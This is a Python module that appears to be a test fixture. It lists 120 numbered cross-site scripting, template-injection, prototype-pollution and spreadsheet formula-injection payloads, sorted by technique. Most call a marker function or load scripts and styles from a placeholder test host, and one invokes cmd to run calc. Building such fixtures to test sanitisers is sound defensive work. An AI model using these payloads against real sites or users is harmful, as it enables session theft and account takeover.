"""A hundred and twenty ways of writing a script where a text is expected, by kind. `#` becomes the number of the payload."""

KINDS: dict[str, tuple[str, ...]] = {
    "tags": (
        "<script>__x(#)</script>", "<SCRIPT>__x(#)</SCRIPT>", "<script/src=//x.test/#.js>", "<script src=data:,__x(#)></script>",
        "<script type=module>__x(#)</script>", "<scr<script>ipt>__x(#)</script>", "<script\n>__x(#)</script\n>", "<script>__x(#)//",
        "<iframe src=javascript:__x(#)>", "<iframe srcdoc='<script>parent.__x(#)</script>'>", "<object data=javascript:__x(#)>",
        "<embed src=javascript:__x(#)>", "<base href=//x.test/#/>", "<link rel=stylesheet href=//x.test/#.css>",
        "<link rel=modulepreload href=//x.test/#.js>", "<meta http-equiv=refresh content='0;url=//x.test/#'>", "<template><script>__x(#)</script></template>",
        "<noscript><img src=x onerror=__x(#)></noscript>", "<frameset onload=__x(#)>", "<applet code=#.class>",
    ),
    "event handlers": (
        "<img src=x onerror=__x(#)>", "<img src=x onerror=__x`#`>", "<IMG SRC=x OnErRoR=__x(#)>", "<img/src=x/onerror=__x(#)>",
        "<body onload=__x(#)>", "<input autofocus onfocus=__x(#)>", "<select autofocus onfocus=__x(#)>", "<textarea autofocus onfocus=__x(#)>",
        "<details open ontoggle=__x(#)>", "<video><source onerror=__x(#)>", "<audio src=x onerror=__x(#)>", "<marquee onstart=__x(#)>",
        "<b onmouseover=__x(#)>ici</b>", "<div onpointerenter=__x(#)>ici</div>", "<p onanimationstart=__x(#)>", "<a id=x tabindex=1 onfocus=__x(#)>",
        "<dialog open onclose=__x(#)>", "<img srcset=x onerror=__x(#)>", "<body onpageshow=__x(#)>", "<style onload=__x(#)></style>",
    ),
    "out of an attribute": (
        '"><script>__x(#)</script>', "'><script>__x(#)</script>", '" onfocus=__x(#) autofocus x="', "' onfocus=__x(#) autofocus x='",
        '"><img src=x onerror=__x(#)>', "'><svg onload=__x(#)>", "x onmouseover=__x(#) ", "` onerror=__x(#) `", '" style="x:expression(__x(#))',
        '"/><base href=//x.test/#>', "&quot; onclick=__x(#) x=&quot;", "&#34; onclick=__x(#) x=&#34;",
    ),
    "addresses": (
        "javascript:__x(#)", "JaVaScRiPt:__x(#)", "java\tscript:__x(#)", "\x20javascript:__x(#)", "javascript&colon;__x(#)", "javascript://%0a__x(#)",
        "data:text/html,<script>__x(#)</script>", "vbscript:__x(#)", "//x.test/#", "<a href=javascript:__x(#)>ici</a>",
        "<a href='java\tscript:__x(#)'>ici</a>", "<form action=javascript:__x(#)><button>ici</button>", "<button formaction=javascript:__x(#)>ici",
        "[ici](javascript:__x(#))",
    ),
    "drawings and formulas": (
        "<svg onload=__x(#)>", "<svg/onload=__x(#)//", "<svg><script>__x(#)</script></svg>", "<svg><a xlink:href=javascript:__x(#)>x</a>",
        "<svg><animate onbegin=__x(#) attributeName=x dur=1s>", "<svg><use href=data:image/svg+xml,#>", "<svg><foreignObject><script>__x(#)</script>",
        "<svg><style>@import'//x.test/#'</style>", "<math href=javascript:__x(#)>x</math>", "<math><mtext></p><img src=x onerror=__x(#)>",
    ),
    "broken markup": (
        "</textarea><script>__x(#)</script>", "</title><script>__x(#)</script>", "</style><script>__x(#)</script>", "</script><script>__x(#)</script>",
        "--><script>__x(#)</script><!--", "]]><script>__x(#)</script>", "</select><script>__x(#)</script>", "</svg><script>__x(#)</script>",
        "<<script>__x(#)//<</script>", "<img src=x onerror=__x(#) ", "<!--><img src=x onerror=__x(#)>", "<![CDATA[<script>__x(#)</script>]]>",
    ),
    "patterns": (
        "{{ 7 * # }}{{ ''.__class__.__mro__ }}", "{% for x in (1,) %}__x(#){% endfor %}", "${__x(#)}", "{{constructor.constructor('__x(#)')()}}",
        "#{7*7} <%= __x(#) %>", "{{= __x(#) }}", "{# __x(#) #}", "#let x = sys.inputs; #x (#)",
    ),
    "scripts that page scripts would read": (
        "';__x(#)//", '";__x(#)//', "\\';__x(#)//", "`-__x(#)-`", '{"__proto__":{"x":#}}', "\\u003cscript\\u003e__x(#)\\u003c/script\\u003e",
        "<div hx-get=/ hx-trigger=load hx-on::load=__x(#)>", "<div data-hx-on--load='__x(#)' hx-ext=x>",
    ),
    "styles": (
        "<style>*{background:url(//x.test/#)}</style>", "<div style=background:url(//x.test/#)>", "<p style=position:fixed;inset:0>#",
        "expression(__x(#))", "</p><style>@import '//x.test/#';</style>", "<input style=x:url(javascript:__x(#))>",
    ),
    "signs and other alphabets": (
        "\uff1cscript\uff1e__x(#)\uff1c/script\uff1e", "‹script›__x(#)‹/script›", "\u202e<script>__x(#)</script>", "<\u200bscript>__x(#)</script>",
        "ſcript:__x(#)", "&lt;script&gt;__x(#)&lt;/script&gt;", "%3Cscript%3E__x(#)%3C/script%3E", "+ADw-script+AD4-__x(#)+ADw-/script+AD4-",
        "=HYPERLINK(\"javascript:__x(#)\")", "@SUM(1+#)*cmd|' /C calc'!A0",
    ),
}  # fmt: skip
WRITTEN = tuple(payload for kind in KINDS.values() for payload in kind)


def numbered(first: int = 0) -> tuple[str, ...]:
    """All of them, numbered from `first`."""
    return tuple(payload.replace("#", str(number)) for number, payload in enumerate(WRITTEN, first))


PAYLOADS = numbered()
